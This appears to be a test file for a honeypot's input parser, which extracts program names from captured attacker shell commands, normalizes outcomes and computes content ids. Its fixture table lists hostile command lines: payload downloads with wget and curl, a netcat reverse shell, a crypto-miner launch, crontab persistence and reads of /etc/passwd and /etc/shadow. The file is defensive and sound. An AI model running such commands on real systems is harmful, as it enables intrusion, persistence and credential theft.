/** Inputs (ttp.md §1, §13 "Inputs"): programs, outcomes, projection, content ids, caps. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { inputId, INPUT_KINDS, inputSchema, normalizeOutcome, programsOf, projectInput, readTimestamp, sha256Hex } from '../../src/ttp/index.js';

describe('programs', () => {
  const table: [string, string[]][] = [
    ['cd /tmp; busybox wget 1.2.3.4/x; sudo -u root /usr/bin/id', ['cd', 'wget', 'id']],
    ['uname -a;id', ['uname', 'id']],
    ['cd /tmp && whoami', ['cd', 'whoami']],
    ['echo $(whoami)', ['echo', 'whoami']],
    ['echo `id`', ['echo', 'id']],
    ["sh -c 'curl -s http://x/a.sh'", ['sh', 'curl']],
    ['bash -c "wget http://x/a; chmod +x a"', ['bash', 'wget', 'chmod']],
    ['eval "nproc"', ['eval', 'nproc']],
    ['FOO=1 BAR=2 nohup ./xmrig -o pool:443 &', ['xmrig']],
    ['env -i PATH=/bin timeout 10s nice -n 5 /usr/sbin/nmap -sS 10.0.0.1', ['nmap']],
    ['sudo -l', ['sudo']],
    ['busybox', ['busybox']],
    ['"/bin/sh" -i', ['sh']],
    ['{ cat /etc/passwd; }', ['cat']],
    ['(crontab -l 2>/dev/null; echo "*/5 * * * * /tmp/x") | crontab -', ['crontab', 'echo']],
    ['cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f', ['cat', 'sh', 'nc']],
    ['time stdbuf -o0 setsid exec command builtin doas -u x ls', ['ls']],
    ['cat a; cat b | cat', ['cat']],
    ['', []],
  ];
  it.each(table)('%s', (text, expected) => {
    expect(programsOf(text)).toEqual(expected);
  });

  it('keeps at most 64', () => {
    expect(programsOf(Array.from({ length: 100 }, (_, i) => `p${i}`).join(';'))).toHaveLength(64);
  });
});

describe('outcomes', () => {
  it.each([
    ['success', 'success'],
    ['Succeeded', 'success'],
    ['ok', 'success'],
    ['failed', 'failure'],
    ['FAILURE', 'failure'],
    ['fail', 'failure'],
    ['denied', 'failure'],
    ['maybe', 'unknown'],
    [undefined, 'unknown'],
  ])('%s → %s', (raw, out) => {
    expect(normalizeOutcome(raw)).toBe(out);
  });
});

describe('content ids (§1.5)', () => {
  it('pins the golden command id', () => {
    expect(inputId('command', { attacker_ip: '198.51.100.23', decky: 'decky-01', service: 'ssh', ts_text: '2026-05-01T12:00:00.000000Z', command_text: 'cat /etc/shadow' })).toBe('command:ae968e9a7058b4a53b8a75243a1bd609');
  });

  it('pins the golden auth_attempt id, through projection', () => {
    const input = projectInput({ kind: 'auth_attempt', attacker_ip: '198.51.100.23', decky: 'decky-01', service: 'ssh', ts: '2026-05-01T12:00:04Z', username: 'root', password: 'password', outcome: 'failure' });
    expect(input.password_sha256).toBe('5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8');
    expect(input.password).toBeUndefined();
    expect(input.id).toBe('auth_attempt:185325cb8fec15e58bc61b99e2f0e076');
  });

  it('password_sha256 equals the hash credential.captured carries', () => {
    expect(projectInput({ kind: 'auth_attempt', ts: 0, password: 'xc3511' }).password_sha256).toBe(sha256Hex('xc3511'));
  });

  it('a pinned id per kind', () => {
    const base = { attacker_ip: '198.51.100.23', decky: 'decky-01', ts: '2026-05-01T12:00:00Z' };
    const ids = {
      command: projectInput({ kind: 'command', ...base, command_text: 'id' }).id,
      http_request: projectInput({ kind: 'http_request', ...base, method: 'GET', path: '/a?b=1' }).id,
      session: projectInput({ kind: 'session', ...base, session_id: 'c0ffee01', ended_at: '2026-05-01T12:10:00.000000Z' }).id,
      credential_reuse: projectInput({ kind: 'credential_reuse', ...base, finding_id: 'f1' }).id,
      email: projectInput({ kind: 'email', ...base, source_id: 42 }).id,
      canary: projectInput({ kind: 'canary', ...base, trigger_id: 't1' }).id,
      intel: projectInput({ kind: 'intel', ...base, feodo_listed: true }).id,
    };
    for (const [kind, id] of Object.entries(ids)) expect(id).toMatch(new RegExp(`^${kind}:[0-9a-f]{32}$`));
    expect(ids).toMatchInlineSnapshot(`
      {
        "canary": "canary:4468f755360a690e1f1065ab11eeba3b",
        "command": "command:a4e25cfe7e54eea74e0dee8410bb5acf",
        "credential_reuse": "credential_reuse:b238be9f6ac014d2f171a3fc94bcfcb8",
        "email": "email:473c4ef9716785913d4cd70067907252",
        "http_request": "http_request:b71bc35aa6dfd33c1e789ec0a8595e47",
        "intel": "intel:50ebe393dfec6a850cfcb5d95bd7683e",
        "session": "session:e1ed18c618b7065f8d53467c55f5f170",
      }
    `);
  });

  it('intel ids leave times out', () => {
    const a = projectInput({ kind: 'intel', ts: 1, feodo_listed: true, expires_at: '2026-01-01T00:00:00Z' });
    const b = projectInput({ kind: 'intel', ts: 2, feodo_listed: true, expires_at: '2027-01-01T00:00:00Z' });
    expect(a.id).toBe(b.id);
  });

  it('distinct inputs have distinct ids (property)', () => {
    fc.assert(
      fc.property(fc.string(), fc.string(), (a, b) => {
        fc.pre(a !== b);
        const x = inputId('command', { attacker_ip: '1.2.3.4', ts_text: 't', command_text: a });
        const y = inputId('command', { attacker_ip: '1.2.3.4', ts_text: 't', command_text: b });
        return x !== y;
      }),
    );
  });
});

describe('projection', () => {
  it('http: path split at ?, url, lower-case headers, header_values, user agent and host from headers', () => {
    const i = projectInput({ kind: 'http_request', ts: 0, method: 'GET', path: '/a/b?x=1&y=2', headers: { 'User-Agent': 'ua/1', Host: 'decky.example', 'X-Multi': ['a', 'b'] } });
    expect(i.path).toBe('/a/b');
    expect(i.query).toBe('x=1&y=2');
    expect(i.url).toBe('/a/b?x=1&y=2');
    expect(i.headers).toEqual({ 'user-agent': 'ua/1', host: 'decky.example', 'x-multi': 'a, b' });
    expect(i.header_values).toBe('ua/1\ndecky.example\na, b');
    expect(i.user_agent).toBe('ua/1');
    expect(i.host).toBe('decky.example');
  });

  it('http without headers: header_values is the User-Agent alone', () => {
    expect(projectInput({ kind: 'http_request', ts: 0, path: '/', user_agent: 'x' }).header_values).toBe('x');
  });

  it('email: url_hosts without full URLs, extensions lower-case without dot', () => {
    const i = projectInput({ kind: 'email', ts: 0, source_id: 1, urls: ['https://Login.Example.com/a?b', 'http://x.test:8080/'], attachment_extensions: ['.PDF', 'Js'] });
    expect(i.url_hosts).toEqual(['login.example.com', 'x.test']);
    expect(i.urls).toBeUndefined();
    expect(i.attachment_extensions).toEqual(['pdf', 'js']);
  });

  it('defaults service by kind', () => {
    expect(projectInput({ kind: 'command', ts: 0 }).service).toBe('ssh');
    expect(projectInput({ kind: 'auth_attempt', ts: 0 }).service).toBe('ssh');
    expect(projectInput({ kind: 'http_request', ts: 0 }).service).toBe('http');
    expect(projectInput({ kind: 'email', ts: 0 }).service).toBe('smtp');
    expect(projectInput({ kind: 'intel', ts: 0 }).service).toBeNull();
  });

  it('caps matched strings at 4096 characters and lists at 64; the id uses the whole value', () => {
    const long = 'a'.repeat(5000);
    const i = projectInput({ kind: 'command', ts: 0, command_text: long });
    expect((i.command_text as string).length).toBe(4096);
    expect(i.id).toBe(inputId('command', { attacker_ip: null, service: 'ssh', ts_text: i.ts_text, command_text: long }));
    const e = projectInput({ kind: 'email', ts: 0, rcpt_domains: Array.from({ length: 100 }, (_, k) => `d${k}.example`) });
    expect(e.rcpt_domains).toHaveLength(64);
  });

  it('timestamps keep microseconds exactly', () => {
    expect(readTimestamp('2026-05-01T12:00:00.123456Z')?.text).toBe('2026-05-01T12:00:00.123456Z');
    expect(readTimestamp('2026-05-01 14:00:00+02:00')?.text).toBe('2026-05-01T12:00:00.000000Z');
    expect(readTimestamp(Date.UTC(2026, 0, 1))?.text).toBe('2026-01-01T00:00:00.000000Z');
    expect(readTimestamp('yesterday')).toBeNull();
  });

  it('projected inputs satisfy their kind schema', () => {
    for (const kind of INPUT_KINDS) {
      const i = projectInput({ kind, ts: 0 });
      expect(inputSchema(kind).safeParse(i).success, kind).toBe(true);
    }
  });
});
